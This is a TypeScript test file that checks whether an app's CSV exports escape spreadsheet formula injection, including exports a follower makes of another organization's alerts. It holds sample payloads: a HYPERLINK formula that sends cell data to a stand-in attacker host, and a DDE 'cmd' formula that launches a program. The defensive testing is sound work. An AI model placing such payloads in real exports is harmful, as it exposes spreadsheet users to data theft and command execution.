import { parse } from 'csv-parse/sync';
import { alertCsvBothWays, createScanTarget, follow, insertAlerts, insertRules } from '../support/alert-fixtures';
import { type Account, type HttpResult, startTestVigil, type TestVigil } from '../support/vigil';

/**
 * CSV formula injection (OWASP): a followed organization controls the rule, resource and labels its
 * followers export. Every text cell that a spreadsheet would read as a formula gets a leading `'`, on
 * the COPY path (PostgreSQL) and the keyset path (the embedded database's) alike, byte for byte.
 */
let t: TestVigil;
let attacker: Account;
let follower: Account;

const LINK = '=HYPERLINK("http://attacker.invalid/?x="&A1,"open")';
/** resource as stored → the cell a spreadsheet gets. */
const RESOURCES: Array<[string, string]> = [
  [LINK, `'${LINK}`],
  ['+1+1', "'+1+1"],
  ['-2+3', "'-2+3"],
  ['@SUM(1,2)', "'@SUM(1,2)"],
  ['\t=1', "'\t=1"],
  ['\rcmd', "'\rcmd"],
  ['   =1+2', "'   =1+2"],
  ['\u00a0@x', "'\u00a0@x"],
  ['\n\v\f-1', "'\n\v\f-1"],
  [' not a formula', ' not a formula'],
  ['arn:aws:s3:::a=b', 'arn:aws:s3:::a=b'],
  ['plain, "quoted"\nline', 'plain, "quoted"\nline'],
];

beforeAll(async () => {
  t = await startTestVigil({ VIGIL_WORKERS: 'all' });
  attacker = await t.bootstrap('mallory@attacker.example', 'Attacker');
  follower = await t.bootstrap('fran@follower.example', 'Follower');
  await follow(t.vigil.db, follower.organizationId, attacker.organizationId);
  await insertRules(t.vigil.db, [{ id: '=cmd|" /C calc"!A0', titleEn: '-2+3 title', titlePt: '@titulo', severity: 'HIGH' }]);
  const target = await createScanTarget(t.vigil.db, attacker.organizationId, { name: 'target' });
  await insertAlerts(
    t.vigil.db,
    RESOURCES.map(([resource], i) => ({
      organizationId: attacker.organizationId,
      scanTargetId: target,
      rule: '=cmd|" /C calc"!A0',
      resource,
      tags: ['ok', '+tag'],
      labels: ['fine', '=1+1', ' @label;-x'],
      createdAt: new Date(Date.UTC(2025, 0, 1, i)),
    })),
  );
}, 120_000);
afterAll(() => t.close());

async function exportCsv(org: string, body: object, key: string): Promise<Array<Record<string, string>>> {
  const created = await t.rest('POST', `/organizations/${org}/documents`, { key, body });
  expect(created.status).toBe(200);
  let done: HttpResult | undefined;
  for (let i = 0; i < 150 && (!done || done.body.status === 'PENDING'); i++) {
    if (done) await new Promise((r) => setTimeout(r, 100));
    done = await t.rest('GET', `/me/documents/${created.body.id}`, { key });
  }
  expect(done?.body.status).toBe('DONE');
  const file = await fetch(`${t.url}/me/documents/${created.body.id}/download`, { headers: { authorization: `Bearer ${key}` } });
  return parse(Buffer.from(await file.arrayBuffer()), { columns: true, relax_quotes: true });
}

describe('CSV exports and formula injection', () => {
  it('gives a member every text cell that would start a formula a leading quote, and leaves the others as they are', async () => {
    const rows = await exportCsv(attacker.organizationId, { type: 'ALERT', params: { order: 'createdAt', sort: 'ASC' } }, attacker.apiKey);
    expect(rows.map((r) => r.resource)).toEqual(RESOURCES.map(([, cell]) => cell));
    for (const row of rows) {
      expect(row).toMatchObject({
        rule: `'=cmd|" /C calc"!A0`,
        ruleTitle: "'-2+3 title",
        tags: "ok;'+tag",
        labels: "fine;'=1+1;' @label;'-x",
        severity: 'HIGH',
        version: '1',
      });
    }
  });

  it("gives a follower's export of the followed organization's alerts the same treatment (rule, title and labels are not censored)", async () => {
    const rows = await exportCsv(
      follower.organizationId,
      { type: 'FOLLOWING_ALERT', params: { following: { followingIds: [attacker.organizationId] }, lang: 'pt_BR' } },
      follower.apiKey,
    );
    expect(rows.length).toBe(RESOURCES.length);
    for (const row of rows)
      expect(row).toMatchObject({ rule: `'=cmd|" /C calc"!A0`, ruleTitle: "'@titulo", resource: '[censored]', labels: "fine;'=1+1;' @label;'-x" });
  });

  it('writes the same bytes through COPY as through the keyset batches the embedded database uses', async () => {
    const cases = [
      { view: attacker, org: attacker.organizationId, following: false, params: { order: 'resource', sort: 'ASC' } },
      { view: follower, org: follower.organizationId, following: true, params: { following: { followingIds: [attacker.organizationId] }, lang: 'pt_BR' } },
    ];
    for (const c of cases) {
      const written = await alertCsvBothWays(t, c.view, { organizationId: c.org, following: c.following, params: c.params });
      expect(written.copy).toContain(`'=1+1`);
      expect(written.copy).toEqual(written.batches);
    }
  });
});
